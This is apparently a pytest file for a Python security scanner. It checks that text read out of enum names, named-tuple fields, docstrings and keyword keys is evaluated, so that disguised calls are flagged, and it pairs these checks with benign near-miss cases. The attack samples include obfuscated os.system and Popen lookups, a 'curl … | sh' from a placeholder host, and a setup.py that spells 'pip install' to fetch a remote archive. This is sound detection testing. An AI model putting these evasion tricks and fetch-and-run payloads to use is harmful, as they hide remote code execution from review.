"""Text a declaration of the file holds, read by the evaluator (``_scan._evaluate_members``,
blind18): an enum member's ``name``, a named tuple's ``_fields``, the module's ``__doc__``,
``iter`` of a known value. Each attack is a tune sample's shape (b18-cn-*), each near miss
benign code that reads the same text for what it is."""

from __future__ import annotations

import ast
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._evaluate import Evaluator
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from caplet._scan._syntax import Survey, survey
from caplet._scan._values import Value
from tests._scan.prefilterkit import found_in_a_package


def last_value(source: str) -> Value | None:
    """The value of the last statement's expression of ``source``."""
    tree = ast.parse(textwrap.dedent(source))
    surveyed = survey(tree, 100, 100_000)
    assert isinstance(surveyed, Survey)
    last = tree.body[-1]
    assert isinstance(last, ast.Expr)
    return Evaluator(surveyed.bindings).evaluate(last.value)


def danger(source: str, filename: str = "mod.py") -> set[str]:
    findings = scan_source(textwrap.dedent(source), filename, mode=ScanMode.PACKAGE)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


@pytest.mark.parametrize(
    ("source", "value"),
    [
        ("import enum\nclass Op(enum.Enum):\n    system = 1\nOp.system.name\n", "system"),
        (
            "from enum import IntEnum\nclass K(IntEnum):\n    a = 1\n    popen = 2\nK.popen.name\n",
            "popen",
        ),
        (
            "from collections import namedtuple\nS = namedtuple('S', 'pip install q')\nS._fields\n",
            ["pip", "install", "q"],
        ),
        (
            "import collections\nS = collections.namedtuple('S', ['ex', 'ec'])\n"
            "''.join(S._fields)\n",
            "exec",
        ),
        (
            "from typing import NamedTuple\nclass P(NamedTuple):\n    sys: int\n    tem: str\n"
            "''.join(P._fields)\n",
            "system",
        ),
        ('"""Runs: system"""\n__doc__[6:]\n', "system"),
        ("def k(**kw):\n    return next(iter(kw))\nk(popen=None)\n", "popen"),
    ],
)
def test_declared_text_is_evaluated(source: str, value: Value) -> None:
    assert last_value(source) == value


@pytest.mark.parametrize(
    "source",
    [
        # not an enumeration: a plain class's attribute has no .name of its own
        "class Op:\n    system = 1\nOp.system.name\n",
        # the member is not assigned in the class body
        "import enum\nclass Op(enum.Enum):\n    a = 1\nOp.system.name\n",
        # __doc__ bound by the file: not the docstring
        '"""doc"""\n__doc__ = load()\n__doc__\n',
        # a named tuple whose fields are not written out
        "from collections import namedtuple\nS = namedtuple('S', fields)\nS._fields\n",
    ],
)
def test_text_not_declared_in_the_file_is_not_known(source: str) -> None:
    assert last_value(source) is None


#: tune b18-cn-enum-member-name, -namedtuple-fields-pip, -module-docstring-letters,
#: -kwargs-key-name: the names of what runs read out of declarations.
DECLARED_NAMES = [
    (
        "import enum, os\nclass Op(enum.Enum):\n    system = 1\n"
        "getattr(os, Op.system.name)('curl -s https://x.example/a | sh')\n",
        "CPL-THR-003",
    ),
    (
        '"""Small helpers: system"""\nimport os\n'
        "getattr(os, ''.join(__doc__[i] for i in [15, 16, 17, 18, 19, 20]))('id')\n",
        "CPL-THR-003",
    ),
    (
        "import importlib\ndef _key(**kw):\n    return next(iter(kw))\n"
        "m = importlib.import_module(_key(subprocess=None))\n"
        "getattr(m, _key(Popen=None))(['sh', '-c', 'id'])\n",
        "CPL-THR-003",
    ),
]


@pytest.mark.parametrize(("source", "rule"), DECLARED_NAMES)
def test_a_name_read_out_of_a_declaration_is_a_computed_lookup(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str, rule: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, rule)


def test_pip_install_spelled_by_a_named_tuples_fields_in_setup_py_is_a_second_stage() -> None:
    source = """
    import subprocess, sys
    from collections import namedtuple
    S = namedtuple("S", "pip install quiet")
    subprocess.check_call([sys.executable, "-m", *S._fields[:2], "https://x.example/a.tar.gz"])
    """
    assert "CPL-THR-019" in danger(source, "setup.py")


@pytest.mark.parametrize(
    "source",
    [
        # an enumeration dispatching to its own handlers by member name
        "import enum\nclass Mode(enum.Enum):\n    fast = 1\n    slow = 2\n"
        "class Runner:\n    def fast(self): ...\n"
        "def run(r, m):\n    return getattr(r, m.name)()\ngetattr(Runner(), Mode.fast.name)()\n",
        # a named tuple's fields written as a CSV header
        "import csv, sys\nfrom collections import namedtuple\n"
        "Row = namedtuple('Row', 'name size')\n"
        "csv.writer(sys.stdout).writerow([*Row._fields])\n",
        # the docstring as a command-line tool's description
        '"""Convert files."""\nimport argparse\nargparse.ArgumentParser(description=__doc__)\n',
        # a keyword helper naming a setting looked up on a settings object
        "def opt(**kw):\n    return next(iter(kw))\nclass Cfg:\n    debug = False\n"
        "getattr(Cfg, opt(debug=True))\n",
    ],
)
def test_declarations_read_for_what_they_are_stay_clean(source: str) -> None:
    assert not danger(source)


class _CountedBody(list[ast.stmt]):
    """A class body that counts how often it is read through."""

    reads = 0

    def __iter__(self) -> Iterator[ast.stmt]:
        self.reads += 1
        return super().__iter__()


def test_reading_an_enums_members_does_not_read_its_body_each_time() -> None:
    """attack21: each ``Op.mN.name`` (and each ``Op.mN`` the resolver looked up) scanned the
    class's whole body, so an enumeration of 4 000 members read 4 000 times cost 16 million
    steps (8.5 s for a 165 KB file, 0.6 s without the reads). The body is read once now."""
    members = 200
    source = "import enum\nclass Op(enum.Enum):\n" + "".join(
        f"    m{i} = {i}\n" for i in range(members)
    )
    tree = ast.parse(source + "".join(f"Op.m{i}.name\n" for i in range(members)))
    surveyed = survey(tree, 100, 100_000)
    assert isinstance(surveyed, Survey)
    cls = tree.body[1]
    assert isinstance(cls, ast.ClassDef)
    counted = _CountedBody(cls.body)
    cls.body = counted
    evaluator = Evaluator(surveyed.bindings)
    reads = [stmt.value for stmt in tree.body[2:] if isinstance(stmt, ast.Expr)]
    assert [evaluator.evaluate(read) for read in reads] == [f"m{i}" for i in range(members)]
    assert counted.reads <= 1
